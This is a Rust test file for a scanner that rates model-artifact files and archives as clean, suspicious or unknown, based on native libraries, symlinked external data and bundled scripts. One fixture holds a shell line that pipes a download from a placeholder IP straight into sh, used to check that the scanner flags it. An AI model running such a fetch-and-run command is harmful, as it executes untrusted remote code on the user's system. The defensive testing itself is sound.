//! What a file stands among: the same bytes are judged by what loads them there.

use std::fs;

use trueline_artifacts::{Surroundings, check_file_of};
use trueline_facts::RepoPath;
use trueline_facts::artifact::Verdict;

fn verdict(name: &str, bytes: &[u8], surroundings: Surroundings) -> Verdict {
    let folder = std::env::temp_dir().join(format!(
        "trueline-artifacts-beside-{}-{name}",
        std::process::id()
    ));
    fs::create_dir_all(&folder).unwrap();
    let file = folder.join(name);
    fs::write(&file, bytes).unwrap();
    let record = check_file_of(&file, RepoPath::from(name), surroundings).unwrap();
    fs::remove_dir_all(&folder).unwrap();
    record.verdict
}

#[test]
fn native_code_is_suspicious_beside_a_model_and_never_clean() {
    let elf = [&b"\x7fELF\x02\x01\x01"[..], &[0; 200]].concat();
    for name in ["libops.so", "libops.so.1", "ops.pyd"] {
        assert_eq!(
            verdict(name, &elf, Surroundings::Model),
            Verdict::Suspicious,
            "{name}"
        );
        assert_eq!(
            verdict(name, &elf, Surroundings::Unknown),
            Verdict::Unknown,
            "{name}"
        );
    }
    assert_eq!(
        verdict("convert", &elf, Surroundings::Model),
        Verdict::Unknown
    );
    assert_eq!(
        verdict("notes.so", b"text", Surroundings::Model),
        Verdict::Clean
    );
}

#[test]
fn data_that_is_taken_through_a_link_is_told() {
    use crate::corpus::frameworks::{external, field, onnx};
    let folder =
        std::env::temp_dir().join(format!("trueline-artifacts-links-{}", std::process::id()));
    let model = folder.join("model");
    fs::create_dir_all(model.join("data")).unwrap();
    let outside = folder.join("outside.bin");
    fs::write(&outside, [0; 4]).unwrap();
    fs::write(model.join("own.bin"), [0; 4]).unwrap();
    let verdict = |location: &str| {
        let file = model.join("m.onnx");
        let graph = [field(2, b"g"), field(5, &external(location))].concat();
        fs::write(&file, onnx(&graph)).unwrap();
        check_file_of(&file, RepoPath::from("m.onnx"), Surroundings::Unknown)
            .unwrap()
            .verdict
    };
    assert_eq!(verdict("own.bin"), Verdict::Clean);
    fs::hard_link(&outside, model.join("hard.bin")).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::symlink;
        assert_eq!(verdict("hard.bin"), Verdict::Unknown);
        symlink(&outside, model.join("out.bin")).unwrap();
        assert_eq!(verdict("out.bin"), Verdict::Suspicious);
        symlink(&folder, model.join("far")).unwrap();
        assert_eq!(verdict("far/outside.bin"), Verdict::Suspicious);
        symlink(folder.join("nowhere"), model.join("dangling.bin")).unwrap();
        assert_eq!(verdict("dangling.bin"), Verdict::Suspicious);
        symlink("../own.bin", model.join("data/in.bin")).unwrap();
        assert_eq!(verdict("data/in.bin"), Verdict::Clean);
        // A cache links to the files of the same model by their hashes.
        let snapshot = folder.join("models--a--b/snapshots/1");
        let blobs = folder.join("models--a--b/blobs");
        fs::create_dir_all(&snapshot).unwrap();
        fs::create_dir_all(&blobs).unwrap();
        fs::write(blobs.join("77"), [0; 4]).unwrap();
        symlink("../../blobs/77", snapshot.join("w.bin")).unwrap();
        let graph = [field(2, b"g"), field(5, &external("w.bin"))].concat();
        let file = snapshot.join("m.onnx");
        fs::write(&file, onnx(&graph)).unwrap();
        let record = check_file_of(&file, RepoPath::from("m.onnx"), Surroundings::Unknown);
        assert_eq!(record.unwrap().verdict, Verdict::Clean);
    }
    fs::remove_dir_all(&folder).unwrap();
}

#[test]
fn native_code_and_scripts_in_an_archive_of_weights_are_judged_as_beside_a_model() {
    use crate::corpus::archives::{member, tar, tar_entry, zip};
    use crate::corpus::pickles::gzip;
    let elf = [&b"\x7fELF\x02\x01\x01"[..], &[0; 200]].concat();
    let piped = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n".to_vec();
    let plain = b"#!/bin/sh\npython3 train.py \"$@\"\n".to_vec();
    let safetensors = b"\x02\0\0\0\0\0\0\0{}".to_vec();
    let pickle = b"\x80\x04}\x94.".to_vec();
    let verdicts = |files: &[(&str, &[u8])]| {
        let members: Vec<_> = files
            .iter()
            .map(|(name, bytes)| member(name, bytes.to_vec()))
            .collect();
        let entries: Vec<_> = files
            .iter()
            .map(|(name, bytes)| tar_entry(name, b'0', "", bytes))
            .collect();
        [("m.zip", zip(&members)), ("m.tar.gz", gzip(&tar(&entries)))].map(|(name, bytes)| {
            trueline_artifacts::check_bytes(bytes, RepoPath::from(name)).verdict
        })
    };
    for (weights, content) in [
        ("model.safetensors", &safetensors),
        ("m/model.joblib", &pickle),
    ] {
        for verdict in verdicts(&[(weights, content), ("lib/x.so", &elf)]) {
            assert_eq!(verdict, Verdict::Suspicious, "{weights}");
        }
        for verdict in verdicts(&[(weights, content), ("setup.sh", &piped)]) {
            assert!(verdict >= Verdict::Suspicious, "{weights}");
        }
        for verdict in verdicts(&[(weights, content), ("run.sh", &plain)]) {
            assert_eq!(verdict, Verdict::Clean, "{weights}");
        }
        // An application brings code; what that does is not read.
        let app = ("AndroidManifest.xml", &b"\x03\0\x08\0"[..]);
        for verdict in verdicts(&[(weights, content), ("lib/x.so", &elf), app]) {
            assert_eq!(verdict, Verdict::Unknown, "{weights}");
        }
    }
    for verdict in verdicts(&[("README", b"Read me.\n"), ("lib/x.so", &elf)]) {
        assert_eq!(verdict, Verdict::Unknown);
    }
}
